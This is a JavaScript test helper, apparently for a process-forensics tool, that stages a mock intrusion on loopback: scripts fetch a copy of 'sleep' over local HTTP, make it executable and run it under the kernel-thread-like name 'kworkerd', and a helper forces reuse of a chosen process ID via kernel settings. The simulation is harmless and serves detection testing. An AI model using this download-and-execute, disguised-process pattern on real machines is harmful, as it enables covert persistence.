// Acts out the story's intrusion with shell scripts, in one folder and on loopback.
import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import path from 'node:path';
import { scratch } from './paths.mjs';
import { allProcesses, atExit, isRunning, killTree, look, start } from './processes.mjs';
import { until } from './wait.mjs';

const sleepProgram = () => realpathSync('/bin/sleep');
const shellProgram = () => realpathSync('/bin/sh');

/** A download program that the machine has, and its arguments for a URL and a file. */
function downloader() {
  for (const [program, args] of [
    ['/usr/bin/curl', (url, file) => ['-sS', '-o', file, url]],
    ['/usr/bin/wget', (url, file) => ['-q', '-O', file, url]],
  ]) {
    if (existsSync(program)) return { name: path.basename(program), line: (url, file) => [program, ...args(url, file)].join(' ') };
  }
  const script = `require('fs').writeFileSync(process.argv[2],Buffer.from(await(await fetch(process.argv[1])).arrayBuffer()))`;
  return { name: path.basename(process.execPath), line: (url, file) => `${process.execPath} --input-type=module -e "${script.replace("require('fs')", "(await import('fs'))")}" ${url} ${file}` };
}

/**
 * Acts out the intrusion and returns once only the service and the backdoor are left:
 *
 *     fleetd (stays) -> sh stage1.sh (exits at once) -> sh stage2.sh -> getent, curl (both exit), kworkerd (stays)
 *
 * `kworkerd` is the downloaded copy of `sleep`, run under another name; `stage2.sh` exits too.
 */
export async function actOut() {
  const folder = scratch('story');
  const file = (name) => path.join(folder, name);
  const server = createServer((request, response) => response.end(readFileSync(sleepProgram())));
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${server.address().port}/update.bin`;
  const download = downloader();

  copyFileSync(shellProgram(), file('fleetd'));
  chmodSync(file('fleetd'), 0o755);
  // The service waits with `read` for the end of its standard input, because that starts no other process.
  writeFileSync(file('service.sh'), `sh '${file('stage1.sh')}'\nread -r line\n`);
  writeFileSync(file('stage1.sh'), `echo $$ > '${file('pid1')}'\nsh '${file('stage2.sh')}' &\nexit 0\n`);
  writeFileSync(
    file('stage2.sh'),
    `echo $$ > '${file('pid2')}'
/usr/bin/getent hosts localhost > /dev/null
${download.line(url, file('kworkerd'))}
chmod 755 '${file('kworkerd')}'
'${file('kworkerd')}' 86399 &
echo $! > '${file('pid3')}'
exit 0
`,
  );
  const service = start(file('fleetd'), [file('service.sh')], { stdio: ['pipe', 'pipe', 'pipe'], detached: true });
  const pidIn = async (name) => {
    await until(`${name} is written`, () => existsSync(file(name)) && readFileSync(file(name), 'utf8').endsWith('\n'), { explain: () => service.err });
    return Number(readFileSync(file(name), 'utf8'));
  };
  const [first, second, backdoor] = [await pidIn('pid1'), await pidIn('pid2'), await pidIn('pid3')];
  atExit(() => killTree(backdoor));
  await until('the backdoor runs', () => look(backdoor)?.name === 'kworkerd');
  await until('both shells have exited', () => !isRunning(first) && !isRunning(second));
  server.close();
  return {
    folder,
    url,
    download: download.name,
    pids: { service: service.pid, first, second, backdoor },
    end() {
      killTree(backdoor);
      service.stdin.end();
    },
  };
}

/** A process and its ancestors as far as /proc alone can tell, the oldest first. */
export function chainInProc(pid) {
  const chain = [];
  for (let at = look(pid); at; at = look(at.ppid)) chain.unshift(at);
  return chain;
}

/**
 * Starts a long-running process with exactly this process id, which must be free: moves the kernel's counter to just
 * before it where that is possible, else lowers `pid_max` and starts processes until the numbers have wrapped.
 */
export async function reusePid(pid, program, args) {
  const counter = '/proc/sys/kernel/ns_last_pid';
  const limit = '/proc/sys/kernel/pid_max';
  const attempt = async () => {
    const child = start(program, args, { stdio: ['pipe', 'ignore', 'ignore'] });
    if (child.pid === pid) return child;
    child.kill('SIGKILL');
    await child.ended;
    return null;
  };
  const canSet = existsSync(counter) && writable(counter, () => readFileSync(counter, 'utf8'));
  const before = readFileSync(limit, 'utf8').trim();
  try {
    if (!canSet) {
      const highest = Math.max(pid, ...allProcesses().map((each) => each.pid));
      writable(limit, () => String(Math.min(Number(before), Math.max(highest + 300, 4096))));
    }
    return await until(
      `the process id ${pid} is used again`,
      async () => {
        if (canSet) {
          writeFileSync(counter, String(pid - 1));
          return attempt();
        }
        // Ids are assigned in order: get close with the cheapest possible processes, then try.
        execFileSync(shellProgram(), ['-c', 'while :; do (:) & wait; [ $! -lt "$0" ] && [ $! -gt $(($0 - 300)) ] && exit; done', String(pid)], { timeout: 240_000 });
        for (let tries = 0; tries < 300; tries += 1) {
          const child = await attempt();
          if (child) return child;
        }
        return null;
      },
      { deadline: 300_000, every: 0 },
    );
  } finally {
    if (readFileSync(limit, 'utf8').trim() !== before) writeFileSync(limit, before);
  }
}

function writable(file, value) {
  try {
    writeFileSync(file, value());
    return true;
  } catch {
    return false;
  }
}
